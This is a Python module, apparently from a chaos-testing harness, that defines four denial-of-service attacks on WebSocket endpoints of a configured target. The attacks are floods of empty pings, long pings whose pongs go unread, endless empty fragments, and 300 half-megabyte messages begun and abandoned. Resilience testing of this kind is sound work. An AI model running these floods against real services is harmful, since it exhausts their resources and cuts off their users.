"""WebSocket frames that cost more than they say: pings without end, fragments of nothing, masks, closes."""

from __future__ import annotations

from chaos.attacks.arena import Attack
from chaos.attacks.attacker import Report, Target
from chaos.attacks.sockets import PIECE, Flood, frame, websocket

#: The ports that speak WebSocket, with a path where nobody has to log in at once.
PATHS = {
    "techmino.endpoints": "/tech/socket/v1/app",
    "invoker.endpoints": "/v1/ws",
    "kwo.endpoints": "/",
    "web.endpoints": "/kassel/ss14",
}

PING, CONTINUATION = 9, 0


def _each_port(target: Target, payload: bytes, connections: int, *, reads: bool) -> Report:
    ports = list(PATHS)
    turn = [0]

    def make() -> object:
        turn[0] += 1
        port = ports[turn[0] % len(ports)]
        return websocket(target.ports[port], PATHS[port])

    return Flood(target, make, payload, connections, reads=reads).run()  # type: ignore[arg-type]


def pings(target: Target) -> Report:
    """Send empty pings, thousands in each read, on many connections, and read the pongs."""
    return _each_port(target, frame(b"", PING) * (PIECE // 6), 40, reads=True)


def pings_unread(target: Target) -> Report:
    """Send the longest pings and never read a pong."""
    return _each_port(target, frame(bytes(125), PING) * 500, 40, reads=False)


def fragments(target: Target) -> Report:
    """Send one message in fragments of nothing that never ends."""
    return _each_port(target, frame(b"", CONTINUATION, final=False) * (PIECE // 6), 40, reads=True)


def begun(target: Target) -> Report:
    """Begin a message of a megabyte in fragments on every connection there may be, and leave it."""
    first = frame(b"{" + b" " * 500_000, 1, final=False)
    return Flood(
        target,
        lambda: websocket(target.ports["techmino.endpoints"], PATHS["techmino.endpoints"]),
        first,
        300,
        again=False,
        pause=60.0,
    ).run()


ATTACKS = (
    Attack("websocket-pings", "empty WebSocket pings without end, on every port that speaks it", pings),
    Attack("websocket-pings-unread", "long WebSocket pings whose pongs are never read", pings_unread),
    Attack("websocket-fragments", "messages of empty fragments that never end", fragments),
    Attack("websocket-begun", "300 messages of half a megabyte each that are begun and left", begun),
)
